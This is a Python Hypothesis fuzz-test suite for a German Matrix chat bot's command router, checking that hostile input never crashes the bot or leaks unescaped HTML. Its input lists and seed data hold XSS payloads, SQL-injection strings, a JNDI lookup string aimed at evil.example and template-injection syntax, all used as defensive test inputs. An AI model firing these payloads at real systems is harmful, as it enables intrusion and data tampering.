"""Fuzzing the command parser and router: whatever arrives, an answer within the rules, or
silence when the message is not addressed to the bot.

Hypothesis builds commands from the grammar of the command language (prefix, the verbs of
`commands.COMMANDS`, theme names with umlauts and quotes, step keys, dates valid and
invalid, `KW`/`Q` forms, roles, mentions) mixed with hostile fragments (control
characters, right-to-left marks, HTML and script tags, SQL, template syntax, huge
numbers, unmatched quotes, very long text) and with arbitrary Unicode. Every input goes
through the real router with real services: a SQLite store, the shipped process
template, the German renderer and the working-day calendar. Before each example the
store is reset to a seeded snapshot (themes running, an idea, hostile theme names, a
done step, a responsible person, a council meeting), so a failure reproduces and
shrinks. Over 10,000 generated examples in all in CI's Hypothesis profile (`make test`),
a twentieth of them by default (tests/conftest.py).

For every input: no exception escapes `Router.handle`; the result is None exactly when
`command_text` says the text is not for the bot; otherwise the outcome is "ok" or
"refused" (never "error": that is an internal exception the router caught, and the
assertion shows its traceback), the reply is not empty, fits the event limit, its HTML
holds only tags and attributes from the Matrix set with every `<` and `&` from user
text escaped, and no control or bidi-override character is echoed into it. In
sequences, a refusal leaves the database as it was.

What the fuzzing found is kept at the end as plain examples.
"""

from __future__ import annotations

import dataclasses
import logging
import re
import sqlite3
import string
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.app import build_bot
from bot.clock import Clock
from bot.config import parse_config
from bot.rendering import MAX_CONTENT_BYTES, content_size
from bot.router import Outcome, Router, command_text
from bot.store.themes import Store
from commands import COMMANDS
from tests.conftest import COORDINATOR, config_text, examples

BERLIN = ZoneInfo("Europe/Berlin")
SEED_TIME = datetime(2026, 3, 2, 10, 0, tzinfo=BERLIN)

MEMBER = "@fachbereich:stadt.example"
OUTSIDER = "@gast:andere.example"
KOORD_ROOM = "!koordination:stadt.example"
TEAM_ROOM = "!team:stadt.example"
OTHER_ROOM = "!fremd:stadt.example"
SENDERS = (COORDINATOR, MEMBER, OUTSIDER)
ROOMS = (TEAM_ROOM, KOORD_ROOM, OTHER_ROOM, "!neu:stadt.example")

SEEDED_THEMES = (
    "Mobilität",
    "Digitale Ethik",
    "Regenwasser",
    "Smart City",
    "<script>alert(1)</script>",
    "'; DROP TABLE theme; --",
    "Straßenbäume & Grün",
)
# Run through the router as the coordinator before the snapshot is taken; each must work.
SEED_COMMANDS = (
    (TEAM_ROOM, "!zt neu Mobilität 15.04.2027"),
    (TEAM_ROOM, "!zt neu Digitale Ethik KW 15/2027"),
    (KOORD_ROOM, "!zt neu Regenwasser Q4/2027"),
    (OTHER_ROOM, "!zt neu „Smart City“ 2027-06-01"),
    (TEAM_ROOM, "!zt neu <script>alert(1)</script> 01.09.2027"),
    (OTHER_ROOM, "!zt neu '; DROP TABLE theme; -- 01.10.2027"),
    (TEAM_ROOM, '!zt neu "Straßenbäume & Grün" KW 30/2027'),
    (TEAM_ROOM, "!zt erledigt Mobilität 1 Fahrplan <b>steht</b> & läuft"),
    (TEAM_ROOM, "!zt zuständig Mobilität 3 @anna:stadt.example"),
    (TEAM_ROOM, "!zt ratssitzung 20.05.2027"),
    (OTHER_ROOM, "!zt raum Digitale Ethik buergerdialog"),
    (TEAM_ROOM, "!zt termin Mobilität 6 27.05.2027"),
    (TEAM_ROOM, "!zt überspringen Mobilität 3a"),
    (TEAM_ROOM, "!zt pausieren Smart City"),
    (TEAM_ROOM, "!zt kvp Mobilität Mehr Radwege <b>jetzt</b> & sofort"),
    ("!z2:stadt.example", "!zt raum Digitale Ethik z2"),
    (TEAM_ROOM, "!zt teilnehmende Digitale Ethik @ratsfrau:stadt.example"),
    # Long before Z2: confirmed, so that the fuzz meets an evaluation that runs.
    (TEAM_ROOM, "!zt umfrage Digitale Ethik trotzdem"),
)

# The HTML that Matrix clients render (the spec's recommended subset, as far as we use it).
ALLOWED_TAGS = frozenset(
    ("p", "a", "ul", "ol", "li", "b", "i", "strong", "em", "code", "pre", "table", "thead",
     "tbody", "tr", "th", "td", "br", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote",
     "details", "summary")
)  # fmt: skip
_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9]*)((?:\s[^<>]*)?)\s*/?>")
# Attributes the templates set, with values that never come from user text.
_ATTRIBUTES = {
    "a": re.compile(r'\s+href="https://matrix\.to/#/[^"<>\s]*"'),
    "td": re.compile(r'(?:\s+(?:colspan|rowspan)="\d{1,2}")+'),
    "th": re.compile(r'(?:\s+(?:colspan|rowspan)="\d{1,2}")+'),
    "ol": re.compile(r'\s+start="\d{1,4}"'),
}
# Echoed user text must not carry these into the bot's own voice: bidi overrides and
# isolates (they would reorder the rest of the answer) and the C0 controls but newline.
SMUGGLERS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x7f")
# Messages routed in this run, by result ("ok", "refused", "ignored"): for the record.
TALLY: Counter[str] = Counter()
_ENTITY = re.compile(r"&(?:#\d{1,7}|#x[0-9A-Fa-f]{1,6}|[A-Za-z]{2,8});")


@dataclass(repr=False)
class Harness:
    router: Router
    store: Store
    working: Path
    snapshot: Path
    errors: list[str]
    dirty: bool = False
    watcher: sqlite3.Connection | None = None

    def reset(self) -> None:
        """Back to the seeded state: copy the snapshot's pages into the working database.

        Skipped when nothing since the last reset succeeded: a refusal changes nothing.
        """
        if not self.dirty:
            return
        self.dirty = False
        source = sqlite3.connect(self.snapshot)
        target = sqlite3.connect(self.working)
        try:
            source.backup(target)
        finally:
            source.close()
            target.close()

    def __repr__(self) -> str:
        return f"Harness({self.working})"

    def fingerprint(self) -> int:
        """Changes whenever another connection (the store's) commits a write."""
        if self.watcher is None:
            self.watcher = sqlite3.connect(self.working)
        return self.watcher.execute("PRAGMA data_version").fetchone()[0]


MEMBERS = {
    TEAM_ROOM: frozenset({COORDINATOR, MEMBER}),
    KOORD_ROOM: frozenset({COORDINATOR}),
    OTHER_ROOM: frozenset({COORDINATOR, OUTSIDER}),
}


class _Authority:
    """Coordinators by user id; room membership by a fixed table."""

    def is_coordinator(self, user_id: str) -> bool:
        return user_id == COORDINATOR

    def is_member(self, room_id: str, user_id: str) -> bool:
        return user_id in MEMBERS.get(room_id, frozenset())


class _Errors(logging.Handler):
    """Keeps the tracebacks the router logs, so that an "error" outcome can show its cause."""

    def __init__(self, sink: list[str]) -> None:
        super().__init__(logging.ERROR)
        self.sink = sink

    def emit(self, record: logging.LogRecord) -> None:
        self.sink.append(self.format(record))


@pytest.fixture(scope="module")
def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    directory = tmp_path_factory.mktemp("fuzz")
    working = directory / "zt.sqlite3"
    config = parse_config(
        config_text(
            directory,
            f'[rooms]\nkoordination = "{KOORD_ROOM}"\n[council]\nmeetings = [2027-03-18]',
            database_url=f"sqlite:///{working}",
        ),
        directory,
        environ={},
    )
    # Assembled as the bot assembles them, but with a fixed table of who may do what.
    bot = build_bot(config, Clock(config.bot.zone))
    services = dataclasses.replace(bot.router.services, rights=_Authority())
    store = services.store
    router = bot.router.with_services(services)
    for room_id, text in SEED_COMMANDS:
        outcome = router.handle(text, sender=COORDINATOR, room_id=room_id, now=SEED_TIME)
        assert outcome is not None and outcome.result == "ok", (text, outcome)
    assert sorted(store.theme_names()) == sorted(SEEDED_THEMES)
    snapshot = directory / "snapshot.sqlite3"
    source = sqlite3.connect(working)
    target = sqlite3.connect(snapshot)
    source.backup(target)
    source.close()
    target.close()

    errors: list[str] = []
    handler = _Errors(errors)
    harness = Harness(router, store, working, snapshot, errors)
    logging.getLogger("bot.router").addHandler(handler)
    try:
        yield harness
    finally:
        logging.getLogger("bot.router").removeHandler(handler)
        if harness.watcher is not None:
            harness.watcher.close()
        store.close()


# The checks -------------------------------------------------------------------------------


def check_html(html: str) -> None:
    """Only tags from the Matrix set, only attributes the templates set, `&` only as entity."""
    assert "<script" not in html.casefold(), "unescaped <script in formatted_body"
    for index in (i for i, ch in enumerate(html) if ch == "<"):
        tag = _TAG.match(html, index)
        assert tag is not None, f"bare '<' in formatted_body: {html[index : index + 40]!r}"
        closing, name, attributes = tag.groups()
        assert name.casefold() in ALLOWED_TAGS, f"tag <{name}> not allowed: {tag.group(0)!r}"
        if attributes.strip():
            allowed = _ATTRIBUTES.get(name.casefold())
            assert not closing and allowed is not None, f"attributes on <{name}>: {tag.group(0)!r}"
            assert allowed.fullmatch(attributes), f"attribute not allowed: {tag.group(0)!r}"
    for index in (i for i, ch in enumerate(html) if ch == "&"):
        entity = _ENTITY.match(html, index)
        assert entity is not None, f"unescaped '&' in formatted_body: {html[index : index + 20]!r}"


def run(
    harness: Harness,
    text: str,
    sender: str,
    room_id: str,
    now: datetime,
    mentions: tuple[str, ...] = (),
    is_direct: bool = False,
) -> Outcome | None:
    """One message through the router, with every rule checked."""
    harness.errors.clear()
    harness.dirty = True  # until the outcome is known to be a refusal
    outcome = harness.router.handle(
        text, sender=sender, room_id=room_id, now=now, mentions=mentions, is_direct=is_direct
    )
    harness.dirty = outcome is not None and outcome.result != "refused"
    TALLY[outcome.result if outcome else "ignored"] += 1
    expected = command_text(text, "!zt")
    if expected is None:
        assert outcome is None, f"answered a message not addressed to the bot: {text!r}"
        return None
    assert outcome is not None, f"no answer to a command: {text!r}"
    assert outcome.result != "error", (
        f"internal error for {text!r} (sender {sender}, room {room_id}, now {now.isoformat()}, "
        f"mentions {mentions}, direct {is_direct}):\n" + "\n".join(harness.errors)
    )
    assert outcome.result in {"ok", "refused"}, outcome.result
    reply = outcome.reply
    assert reply.body.strip(), f"empty body for {text!r}"
    assert reply.html.strip(), f"empty formatted_body for {text!r}"
    size = content_size(reply)
    assert size <= MAX_CONTENT_BYTES, f"reply of {size} bytes for {text[:200]!r}"
    check_html(reply.html)
    for field in (reply.body, reply.html):
        smuggled = sorted({ch for ch in field if ch in SMUGGLERS or (ch < " " and ch != "\n")})
        assert not smuggled, f"control or bidi characters {smuggled!r} echoed for {text[:200]!r}"
    return outcome


# The grammar ------------------------------------------------------------------------------

VERBS = sorted({word for command in COMMANDS for word in command.words})
GERMAN_LETTERS = string.ascii_letters + "äöüÄÖÜßẞéèçñ"
QUOTES = ('"', "„", "“", "”", "»", "«", "'", "‚", "‘", "’")
INVISIBLE = (
    "\u202e",  # right-to-left override
    "\u202d",
    "\u200f",  # right-to-left mark
    "\u200e",
    "\u2066",
    "\u2069",
    "\u200b",  # zero-width space
    "\u200c",
    "\u200d",
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\u034f",
    "\u2028",  # line separator
    "\u2029",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<a href=javascript:alert(1)>klick</a>",
    '"><svg onload=alert(1)>',
    "</p></li></ul><h1>",
    "<b>fett</b>",
    "<!-- kommentar -->",
    "<![CDATA[x]]>",
    "&lt;script&gt;",
    "&amp;",
    "&#60;",
    "& ",
    "<",
    ">",
    "'; DROP TABLE theme; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; DELETE FROM step",
    "%",
    "_",
    "\\",
    "\\x00",
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}",
    "{# kommentar",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "\x00",
    "\x1b[31m",
    "\r\n",
    "\t",
    "\x7f",
    "\x85",
    "e\u0301\u0301\u0301",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356",
    "🙂",
    "👩‍👩‍👧‍👦",
    "🇩🇪",
    "İstanbul",
    "ﬅ",
    "１５.０４.２０２７",
    "١٥.٠٤.٢٠٢٧",
    "@anna:stadt.example",
    "@evil:<script>",
    "https://matrix.to/#/@anna:stadt.example",
    "NaN",
    "inf",
    "-0",
    "1e999",
    "0x7fffffff",
    "−1",
)
STEP_WORDS = (
    "1", "2", "3", "3a", "3A", "4", "5", "6", "7", "0", "8", "99", "-1", "3b", "a3",
    "Vorbereitung", "beschluss", "Beschlussvorlage", "Ratsentscheidung", "KVP", "Z2",
    "beteiligung-start", "beteiligung-ende", "Evaluation",
)  # fmt: skip
ROLE_WORDS = (
    "team", "buergerdialog", "bürgerdialog", "z2", "fachbereich", "entfernen", "remove",
    "lösen", "bestätigen", "bestaetigen", "confirm", "niemand", "keine", "none",
)  # fmt: skip

invisible = st.sampled_from(INVISIBLE)
control = st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp", "Co", "Mn"])
hostile = st.sampled_from(HOSTILE)
# Digits as `str.isdigit` sees them: superscripts, circled and other scripts' digits too.
ODD_DIGITS = ("²", "¹²³", "①", "⑳", "٣", "۴", "५", "๓", "１２", "𝟙", "0", "00", "-1", "+1", "1_000")
number = st.one_of(
    st.integers(min_value=0, max_value=20).map(str),
    st.sampled_from(ODD_DIGITS),
    st.text(alphabet="0123456789²³¹①٣५", min_size=1, max_size=12),
)
huge_number = st.one_of(
    st.integers(min_value=-(10**80), max_value=10**80).map(str),
    st.integers(min_value=7, max_value=5000).map(lambda n: "9" * n),
)
theme_text = st.text(alphabet=GERMAN_LETTERS + " -", min_size=1, max_size=30)
long_text = st.builds(
    lambda char, n: char * n,
    st.sampled_from(["A", "ä", '"', "„", "<", "&", " ", "\u202e", "🙂", "x "]),
    st.integers(min_value=70, max_value=6000),
)


def _case_variants(word: str) -> st.SearchStrategy[str]:
    return st.sampled_from([word, word.upper(), word.title(), word.casefold()])


verb = st.one_of(
    st.sampled_from(VERBS).flatmap(_case_variants),
    st.sampled_from(["loschen", "zustandig", "uberspringen", "ueberspringen", "HILFE", "?"]),
    st.text(alphabet=GERMAN_LETTERS, min_size=1, max_size=12),
)


def _with_quotes(name: str, opening: str, closing: str) -> str:
    return f"{opening}{name}{closing}"


seeded_name = st.sampled_from(SEEDED_THEMES).flatmap(
    lambda name: st.sampled_from(
        [name, name.upper(), name.casefold(), name[: max(1, len(name) // 2)], name + "x"]
    )
)
theme_ref = st.one_of(
    seeded_name,
    theme_text,
    st.builds(
        _with_quotes,
        st.one_of(seeded_name, theme_text, hostile),
        st.sampled_from(QUOTES),
        st.sampled_from((*QUOTES, "")),
    ),
    st.builds(lambda q, n: q * n, st.sampled_from(QUOTES), st.integers(1, 40)),
    st.builds(lambda name, mark: mark + name, seeded_name, invisible),
)

day = st.dates(min_value=date(1990, 1, 1), max_value=date(2110, 12, 31))
date_text = st.one_of(
    day.map(lambda d: f"{d.day:02d}.{d.month:02d}.{d.year}"),
    day.map(lambda d: f"{d.day}.{d.month}.{d.year}"),
    day.map(date.isoformat),
    st.builds(
        lambda week, year, form: form.format(w=week, y=year),
        st.integers(min_value=-1, max_value=60),
        st.integers(min_value=1990, max_value=2110),
        st.sampled_from(["KW {w}/{y}", "KW{w} {y}", "kw {w} / {y}", "KW {w}  {y}", "KW{w}/{y}"]),
    ),
    st.builds(
        lambda quarter, year, form: form.format(q=quarter, y=year),
        st.integers(min_value=-1, max_value=9),
        st.integers(min_value=1990, max_value=2110),
        st.sampled_from(["Q{q}/{y}", "q{q} {y}", "Q {q} / {y}"]),
    ),
    st.sampled_from(
        [
            "31.02.2027",
            "29.02.2028",
            "29.02.2027",
            "00.00.0000",
            "32.13.2027",
            "2027-13-01",
            "2027-02-30",
            "KW 53/2026",
            "KW 53/2027",
            "KW 0/2027",
            "Q0/2027",
            "Q5/2027",
            "15.04.27",
            "15.4.2027 ",
            "15/04/2027",
            "heute",
            "morgen",
        ]
    ),
    st.builds(lambda d, m, y: f"{d}.{m}.{y}", huge_number, huge_number, huge_number),
    st.builds(lambda w, y: f"KW {w}/{y}", huge_number, huge_number),
)

token = st.one_of(
    theme_ref,
    date_text,
    st.sampled_from(STEP_WORDS),
    st.sampled_from(ROLE_WORDS),
    hostile,
    huge_number,
    number,
    invisible,
    control,
    theme_text,
    st.text(max_size=10),
)
separator = st.sampled_from([" ", " ", " ", "  ", "\t", "\n", "\u00a0", "\u3000", " \u202e"])
prefix = st.sampled_from(
    ["!zt", "!zt", "!zt", "!ZT", "!Zt", "  !zt", "\n!zt", "!ztx", "!z", "zt", "", "\u200b!zt"]
)


@st.composite
def grammar_command(draw: st.DrawFn) -> str:
    """`<prefix> <verb> [Thema] [tokens …] [Schritt|Datum]`, in the shapes commands take."""
    parts = [draw(verb)]
    if draw(st.booleans()):
        parts.append(draw(theme_ref))
    parts.extend(draw(st.lists(token, max_size=4)))
    tail = draw(st.sampled_from(["", "date", "step", "step date", "step note"]))
    for kind in tail.split():
        if kind == "date":
            parts.append(draw(date_text))
        elif kind == "step":
            parts.append(draw(st.sampled_from(STEP_WORDS)))
        else:
            parts.append(draw(st.one_of(theme_text, hostile, long_text)))
    text = draw(prefix)
    for part in parts:
        text += draw(separator) + part
    return text


# The shape of each verb's arguments; a verb not listed takes a theme.
SHAPES = {
    "hilfe": ("topic",),
    "status": ("theme?",),
    "themen": (),
    "neu": ("name", "date"),
    "verschieben": ("theme", "date"),
    "erledigt": ("theme", "step", "note"),
    "offen": ("theme", "step"),
    "überspringen": ("theme", "step", "note"),
    "termin": ("theme", "step", "date"),
    "zuständig": ("theme", "step", "people"),
    "raum": ("theme", "role"),
    "ratssitzung": ("remove", "date"),
    "vorlage": ("theme", "note"),
    "jahresplan": ("year",),
    "umfrage": ("close", "theme", "mode"),
    "auswertung": ("theme?",),
    "kvp": ("kvp",),
    "erinnerungen": ("theme?",),
    "umbenennen": ("theme", "name"),
    "löschen": ("theme", "confirm"),
}
near_day = st.dates(min_value=date(2025, 1, 1), max_value=date(2030, 12, 31))
good_date = st.one_of(
    near_day.map(lambda d: f"{d.day:02d}.{d.month:02d}.{d.year}"),
    near_day.map(date.isoformat),
    near_day.map(lambda d: "KW {1}/{0}".format(*d.isocalendar())),
    near_day.map(lambda d: "KW{1} {0}".format(*d.isocalendar())),
    near_day.map(lambda d: f"Q{(d.month - 1) // 3 + 1}/{d.year}"),
)
person = st.one_of(
    st.sampled_from(["@anna:stadt.example", "@ben:stadt.example:8448", "niemand", "keine"]),
    st.from_regex(r"@[a-z0-9._=/+-]{1,20}:[a-z0-9.-]{1,20}", fullmatch=True),
    hostile,
)
SLOTS: dict[str, st.SearchStrategy[str]] = {
    "topic": st.one_of(
        st.just(""), st.sampled_from(VERBS), st.sampled_from(STEP_WORDS), theme_text
    ),
    "theme?": st.one_of(st.just(""), theme_ref),
    "theme": st.one_of(seeded_name, seeded_name, theme_ref),
    "name": st.one_of(
        theme_text,
        st.builds(_with_quotes, theme_text, st.sampled_from(QUOTES), st.sampled_from(QUOTES)),
        st.builds(lambda a, b: a + b, theme_text, hostile),
        st.text(min_size=1, max_size=100),
    ),
    "date": st.one_of(good_date, good_date, date_text),
    "step": st.sampled_from(STEP_WORDS),
    "note": st.one_of(st.just(""), theme_text, hostile, st.text(max_size=40), long_text),
    "people": st.lists(person, max_size=12).map(" ".join),
    "role": st.one_of(st.just(""), st.sampled_from(ROLE_WORDS)),
    "remove": st.sampled_from(["", "", "entfernen", "remove", "löschen"]),
    "year": st.one_of(st.just(""), st.integers(1990, 2110).map(str), huge_number, date_text),
    "confirm": st.sampled_from(["", "bestätigen", "BESTAETIGEN", "confirm"]),
    "close": st.sampled_from(["", "", "beenden", "close", "schliessen"]),
    "mode": st.sampled_from(["", "anonym", "raum", "room", "anonymous"]),
    "kvp": st.one_of(
        st.builds(lambda t, n: f"{t} {n}", theme_ref, st.one_of(theme_text, hostile, long_text)),
        st.builds(
            lambda d, n, r: f"{d} {n} {r}",
            st.sampled_from(["übernommen", "uebernommen", "verworfen", "abgelehnt", "adopted"]),
            number,
            st.one_of(st.just(""), theme_text, hostile),
        ),
        st.one_of(st.just(""), seeded_name),
    ),
}


@st.composite
def shaped_command(draw: st.DrawFn) -> str:
    """A verb with arguments in its own shape, mostly well-formed, sometimes spiked."""
    command = draw(st.sampled_from(COMMANDS))
    words = [draw(st.sampled_from(command.words).flatmap(_case_variants))]
    for slot in SHAPES.get(command.name, ("theme",)):
        words.append(draw(SLOTS[slot]))
    if draw(st.integers(min_value=0, max_value=3)) == 0:  # spike: one hostile token anywhere
        spike = draw(st.one_of(hostile, invisible, control, huge_number, st.sampled_from(QUOTES)))
        words.insert(draw(st.integers(min_value=1, max_value=len(words))), spike)
    text = draw(st.sampled_from(["!zt", "!zt", "!zt", "!ZT", " !zt", "!ztx", "zt"]))
    for word in words:
        text += draw(separator) + word
    return text


senders = st.sampled_from(SENDERS)
# People mentioned with a pill (m.mentions), as the adapter passes them on.
mentions = st.one_of(
    st.just(()),
    st.lists(
        st.one_of(
            st.sampled_from([COORDINATOR, MEMBER, OUTSIDER, "@anna:stadt.example"]),
            st.from_regex(r"@[a-z0-9._=/+-]{1,30}:[a-z0-9.-]{1,30}", fullmatch=True),
            st.text(max_size=40),
        ),
        max_size=15,
    ).map(tuple),
)
rooms = st.sampled_from(ROOMS)
# Instants as the bot's clock gives them: real times in Berlin, DST changes included.
moments = st.datetimes(
    min_value=datetime(2025, 1, 1), max_value=datetime(2029, 12, 31), timezones=st.just(UTC)
).map(lambda moment: moment.astimezone(BERLIN))
arbitrary = st.one_of(
    st.text(),
    st.text().map(lambda t: "!zt " + t),
    st.text().map(lambda t: "!zt" + t),
    st.builds(lambda v, t: f"!zt {v} {t}", st.sampled_from(VERBS), st.text()),
    st.binary().map(lambda b: "!zt " + b.decode("utf-8", "replace")),
)
hostile_message = st.one_of(
    long_text.map(lambda t: "!zt " + t),
    long_text.map(lambda t: "!zt neu " + t + " 15.04.2027"),
    st.builds(
        lambda v, n, ch: f"!zt {v} " + ch * n,
        st.sampled_from(VERBS),
        st.integers(min_value=3990, max_value=4010),
        st.sampled_from(["x", "ä", '"', " ", "<"]),
    ),
    st.builds(lambda n: "!zt " + "x" * n, st.sampled_from([60_000, 65_536, 70_000])),
    st.builds(lambda n: '!zt status "' + '"' * n, st.integers(min_value=1, max_value=10_000)),
    st.builds(
        lambda v, parts: f"!zt {v} " + " ".join(parts),
        st.sampled_from(VERBS),
        st.lists(st.one_of(hostile, invisible, control, huge_number), min_size=1, max_size=20),
    ),
    st.builds(
        lambda v, note: f"!zt {v} Mobilität 2 {note}",
        st.sampled_from(["erledigt", "offen", "überspringen", "zuständig", "termin"]),
        st.one_of(long_text, st.text(min_size=480, max_size=520)),
    ),
    st.builds(
        lambda v, name: f"!zt {v} {name} 15.04.2027",
        st.sampled_from(["neu", "verschieben", "umbenennen"]),
        st.text(alphabet=GERMAN_LETTERS + "<>&\"'", min_size=75, max_size=90),
    ),
)

FUZZ = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@settings(FUZZ, max_examples=examples(6_000))
@given(
    text=st.one_of(shaped_command(), grammar_command()),
    sender=st.sampled_from((COORDINATOR, COORDINATOR, *SENDERS)),
    room_id=rooms,
    now=moments,
    mentions=mentions,
    is_direct=st.booleans(),
)
def test_grammar_commands(
    harness: Harness,
    text: str,
    sender: str,
    room_id: str,
    now: datetime,
    mentions: tuple[str, ...],
    is_direct: bool,
) -> None:
    harness.reset()
    run(harness, text, sender, room_id, now, mentions, is_direct)


@settings(FUZZ, max_examples=examples(2_500))
@given(text=arbitrary, sender=senders, room_id=rooms, now=moments)
def test_arbitrary_text(
    harness: Harness, text: str, sender: str, room_id: str, now: datetime
) -> None:
    harness.reset()
    run(harness, text, sender, room_id, now)


@settings(FUZZ, max_examples=examples(1_000))
@given(text=hostile_message, sender=senders, room_id=rooms, now=moments)
def test_hostile_messages(
    harness: Harness, text: str, sender: str, room_id: str, now: datetime
) -> None:
    harness.reset()
    run(harness, text, sender, room_id, now)


@settings(FUZZ, max_examples=examples(1_000))
@given(
    steps=st.lists(
        st.tuples(st.one_of(shaped_command(), grammar_command(), hostile_message), senders, rooms),
        min_size=2,
        max_size=4,
    ),
    overview=st.sampled_from(
        ["!zt status", "!zt themen", "!zt erinnerungen", "!zt ratssitzung", "!zt jahresplan"]
    ),
    now=moments,
)
def test_command_sequences(
    harness: Harness, steps: list[tuple[str, str, str]], overview: str, now: datetime
) -> None:
    """Commands that build on each other's changes: the state a real room accumulates."""
    harness.reset()
    for text, sender, room_id in steps:
        before = harness.fingerprint()
        outcome = run(harness, text, sender, room_id, now)
        if outcome is None or outcome.result == "refused":
            assert harness.fingerprint() == before, f"refused, yet the database changed: {text!r}"
    # However the themes were changed, the overviews still answer.
    outcome = run(harness, overview, COORDINATOR, TEAM_ROOM, now)
    assert outcome is not None and outcome.result == "ok", (overview, outcome)


# Found by the fuzzing, kept as plain examples ----------------------------------------------


@pytest.mark.parametrize("number", ["²", "①", "¹²³"])
@pytest.mark.parametrize("decision", ["übernommen", "verworfen"])
def test_kvp_decision_with_a_digit_that_int_cannot_read_is_refused(
    harness: Harness, decision: str, number: str
) -> None:
    """`str.isdigit()` is true for superscript and circled digits, but `int()` refuses them:
    the number check in commands/kvp.py lets them through to an internal error."""
    harness.dirty = True
    harness.reset()
    outcome = run(harness, f"!zt kvp {decision} {number}", COORDINATOR, TEAM_ROOM, SEED_TIME)
    assert outcome is not None and outcome.result == "refused"


def test_an_ambiguous_name_is_answered_within_the_event_limit(harness: Harness) -> None:
    """The refusal for an ambiguous name lists every theme that starts with it, and
    refusals (`Renderer.sentence`) are not cut to the limit as messages are."""
    harness.dirty = True
    harness.reset()
    for number in range(150):  # names with many characters that HTML escaping multiplies
        name = f"A{number:03d} " + "&" * 75
        created = run(harness, f"!zt neu {name} 15.04.2027", COORDINATOR, TEAM_ROOM, SEED_TIME)
        assert created is not None and created.result == "ok"
    outcome = harness.router.handle("!zt status A", sender=MEMBER, room_id=TEAM_ROOM, now=SEED_TIME)
    harness.dirty = True
    assert outcome is not None and outcome.result == "refused"
    assert content_size(outcome.reply) <= MAX_CONTENT_BYTES


def test_a_letter_that_folds_to_the_prefix_is_not_the_prefix() -> None:
    """`command_text` compares case-folded text but cuts the original at len(prefix):
    "ẗ" folds to "t" + U+0308, so "!zẗ hilfe" passes for "!zt hilfe"."""
    assert command_text("!zẗ hilfe", "!zt") is None


def test_mentions_that_are_no_user_ids_are_not_taken(harness: Harness) -> None:
    """`m.mentions` user ids come from the client unchecked (matrix.adapter.mentioned); the
    `zuständig` command stores and echoes them whole, whatever they hold."""
    harness.dirty = True
    harness.reset()
    fake = (*(f"@{number}" + "&" * 6_000 for number in range(5)), "\u202e<script>x", "\x1f")
    text = "!zt zuständig Mobilität 1 @anna:stadt.example"
    outcome = run(harness, text, COORDINATOR, TEAM_ROOM, SEED_TIME, mentions=fake)
    assert outcome is not None and outcome.result == "ok"
    assert "@anna:stadt.example" in outcome.reply.body
    assert "&&&" not in outcome.reply.body
